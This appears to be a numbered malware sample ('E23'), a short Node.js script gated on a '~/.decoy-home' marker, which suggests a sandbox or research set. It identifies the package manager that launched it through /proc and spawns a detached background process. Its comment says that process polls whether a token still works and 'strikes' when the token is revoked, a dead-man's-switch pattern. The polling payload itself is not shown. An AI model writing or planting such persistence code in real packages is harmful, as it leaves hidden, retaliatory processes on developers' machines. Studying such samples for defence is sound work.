// E23: leaves a process behind that asks again and again whether a token still works, and strikes when it does not.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const { spawn } = require("node:child_process");

// Whoever started us, and who started them: the package manager.
const manager = fs.readFileSync(`/proc/${process.ppid}/stat`, "utf8").split(") ")[1].split(" ")[1];
spawn(process.execPath, ["poll.js", manager], { detached: true, stdio: "ignore" }).unref();
